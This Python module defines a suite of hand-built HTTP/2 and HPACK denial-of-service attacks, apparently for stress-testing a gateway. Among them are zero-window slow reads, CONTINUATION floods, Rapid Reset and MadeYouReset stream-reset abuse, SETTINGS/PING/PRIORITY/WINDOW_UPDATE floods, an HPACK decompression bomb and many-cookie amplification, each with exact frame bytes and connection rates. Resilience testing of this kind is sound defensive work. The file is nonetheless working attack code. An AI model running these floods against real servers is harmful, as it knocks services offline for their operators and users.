"""Attacks with frames of HTTP/2 (RFC 9113) and HPACK (RFC 7541), by hand."""

import struct

from attack import H2, attack
from gateway import HOST
from http2 import (
    ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    frame, settings,
)


def string(text):
    """A literal without Huffman, of up to 126 bytes or of a two-byte length (RFC 7541 5.1, 5.2)."""
    data = text.encode() if isinstance(text, str) else text
    if len(data) < 127:
        return bytes([len(data)]) + data
    length, rest = len(data) - 127, b""
    while length >= 128:
        rest += bytes([length % 128 + 128])
        length //= 128
    return b"\x7f" + rest + bytes([length]) + data


def block(method, path):
    """The pseudo-fields of a request, by the static table."""
    return {"GET": b"\x82", "POST": b"\x83"}[method] + b"\x87" + b"\x01" + string(HOST) + b"\x04" + string(path)


SMALL, LARGE = block("GET", "/bulk/attack/100/length"), block("GET", "/bulk/attack/1000000/length")
UPLOAD = block("POST", "/bulk/attack/1/length")


def headers(stream, fields, flags=END_HEADERS | END_STREAM):
    return frame(HEADERS, flags, stream, fields)


def number(value):
    return struct.pack(">I", value)


def streams(place, count):
    """The identifiers of the next so many streams."""
    return range(1 + 2 * place * count, 1 + 2 * (place + 1) * count, 2)


@attack("zero-window", "2 connections a second, 20 held, each asks for 100 answers of 1 MB and opens no window")
async def zero_window(attacker):
    begin = PREFACE + settings(push=0, window=0) + b"".join(headers(stream, LARGE) for stream in streams(0, 100))
    await attacker.hold("h2", 2, 20, begin)


@attack("small-window", "2 connections a second, 20 held, each asks for 100 answers of 1 MB and opens one byte of window a second")
async def small_window(attacker):
    begin = PREFACE + settings(push=0, window=1) + b"".join(headers(stream, LARGE) for stream in streams(0, 100))
    drip = b"".join(frame(WINDOW_UPDATE, stream=stream, payload=number(1)) for stream in streams(0, 100))
    await attacker.hold("h2", 2, 20, begin, drip=drip)


@attack("preface", "30 connections a second that send the preface of HTTP/2 and nothing else, 500 held")
async def preface(attacker):
    await attacker.hold("h2", 30, 500, PREFACE, reads=False)


@attack("half-headers", "20 connections a second, 300 held, a HEADERS without END_HEADERS and then nothing")
async def half_headers(attacker):
    await attacker.hold("h2", 20, 300, H2, headers(1, SMALL, END_STREAM))


@attack("continuation", "8 connections, 10 times a second each 100 CONTINUATIONs of a header block without end, empty and of 160 bytes")
async def continuation(attacker):
    field = b"\x00" + string("x") + string(b"y" * 150)
    pieces = [frame(CONTINUATION, stream=1) * 100, frame(CONTINUATION, stream=1, payload=field) * 100]

    def batch(place):
        return pieces[place % 2] if place else headers(1, SMALL, END_STREAM) + pieces[0]

    await attacker.flood(8, 10, H2, batch)


@attack("rapid-reset", "4 connections, 10 times a second each 25 requests that are reset at once")
async def rapid_reset(attacker):
    def batch(place):
        reset = number(CANCEL)
        return b"".join(headers(it, SMALL) + frame(RST_STREAM, stream=it, payload=reset) for it in streams(place, 25))

    await attacker.flood(4, 10, H2, batch)


@attack("steady-reset", "4 connections, 20 times a second each 10 requests that are reset at once")
async def steady_reset(attacker):
    def batch(place):
        reset = number(CANCEL)
        return b"".join(headers(it, SMALL) + frame(RST_STREAM, stream=it, payload=reset) for it in streams(place, 10))

    await attacker.flood(4, 20, H2, batch)


@attack("late-reset", "4 connections, 10 times a second each 5 requests for 1 MB that are reset when the next ones are sent")
async def late_reset(attacker):
    def batch(place):
        reset = number(CANCEL)
        before = b"".join(frame(RST_STREAM, stream=it, payload=reset) for it in streams(place - 1, 5)) if place else b""
        return before + b"".join(headers(it, LARGE) for it in streams(place, 5))

    await attacker.flood(4, 10, PREFACE + settings(push=0, window=1 << 20) + frame(WINDOW_UPDATE, payload=number(1 << 30)), batch)


@attack("made-you-reset", "4 connections, 10 times a second each 25 streams that the gateway must reset, for another of six reasons each")
async def made_you_reset(attacker):
    turn = 0

    def provoke(stream, reason):
        if reason == 0:
            return headers(stream, SMALL) + frame(WINDOW_UPDATE, stream=stream, payload=number(0))
        if reason == 1:
            return headers(stream, SMALL) + frame(WINDOW_UPDATE, stream=stream, payload=number((1 << 31) - 1))
        if reason == 2:
            # Data behind the end (RFC 9113 5.1).
            return headers(stream, SMALL) + frame(DATA, END_STREAM, stream, b"x")
        if reason == 3:
            # A length that its data does not keep (RFC 9113 8.1.1).
            return headers(stream, UPLOAD + b"\x0f\x0d" + string("5"), END_HEADERS) + frame(DATA, END_STREAM, stream, b"too long")
        if reason == 4:
            # A field that HTTP/2 does not have.
            return headers(stream, SMALL + b"\x00" + string("connection") + string("close"))
        return headers(stream, SMALL) + frame(PRIORITY, stream=stream, payload=number(stream) + b"\x10")

    def batch(place):
        nonlocal turn
        # A connection that was closed for its reason is followed by one with another.
        turn += place == 0
        return b"".join(provoke(it, turn % 6) for it in streams(place, 25))

    await attacker.flood(4, 10, H2, batch)


@attack("settings", "4 connections, 10 times a second each 50 SETTINGS")
async def settings_flood(attacker):
    data = frame(SETTINGS, payload=struct.pack(">HI", 4, 65535)) * 50
    await attacker.flood(4, 10, H2, lambda place: data)


@attack("ping", "4 connections, 10 times a second each 50 PINGs")
async def ping(attacker):
    data = frame(PING, payload=b"12345678") * 50
    await attacker.flood(4, 10, H2, lambda place: data)


@attack("ping-unread", "4 connections, 10 times a second each 50 PINGs, no answer is read")
async def ping_unread(attacker):
    data = frame(PING, payload=b"12345678") * 50
    await attacker.hold("h2", 4, 4, H2, reads=False, drip=data, every=0.1)


@attack("priority", "4 connections, 10 times a second each 50 PRIORITYs, of streams that there never were")
async def priority(attacker):
    data = b"".join(frame(PRIORITY, stream=it, payload=number(0) + b"\x10") for it in range(1, 101, 2))
    await attacker.flood(4, 10, H2, lambda place: data)


@attack("empty-data", "4 connections, 10 times a second each 50 empty DATA frames of an upload")
async def empty_data(attacker):
    data = frame(DATA, stream=1) * 50
    await attacker.flood(4, 10, H2 + headers(1, UPLOAD, END_HEADERS), lambda place: data)


@attack("window-one", "4 connections, 10 times a second each 50 WINDOW_UPDATEs of 1")
async def window_one(attacker):
    data = frame(WINDOW_UPDATE, payload=number(1)) * 50
    await attacker.flood(4, 10, H2, lambda place: data)


@attack("window-zero", "4 connections, 10 times a second each 50 WINDOW_UPDATEs of 0")
async def window_zero(attacker):
    data = frame(WINDOW_UPDATE, payload=number(0)) * 50
    await attacker.flood(4, 10, H2, lambda place: data)


@attack("hpack-bomb", "4 connections, 5 times a second each a request of 16 kB that unpacks to 60 MB")
async def hpack_bomb(attacker):
    first = b"\x40" + string("x") + string(b"a" * 3900)
    bomb = first + b"\xbe" * 12000

    def batch(place):
        return headers(1 + 2 * place, SMALL + bomb)

    await attacker.flood(4, 5, H2, batch)


@attack("many-crumbs", "4 connections, 5 times a second each a request with 8,000 cookies, a byte each")
async def many_crumbs(attacker):
    first = b"\x60" + string("a=b")
    await attacker.flood(4, 5, H2, lambda place: headers(1 + 2 * place, SMALL + first + b"\xbe" * 8000))


@attack("unread", "5 connections a second, 100 held, each asks for 100 small answers and reads none")
async def unread(attacker):
    begin = H2 + b"".join(headers(stream, SMALL) for stream in streams(0, 100))
    await attacker.hold("h2", 5, 100, begin, reads=False)


@attack("unacknowledged", "4 connections, 10 times a second each 50 acknowledgements of settings that nobody sent")
async def unacknowledged(attacker):
    data = frame(SETTINGS, ACK) * 50
    await attacker.flood(4, 10, H2, lambda place: data)
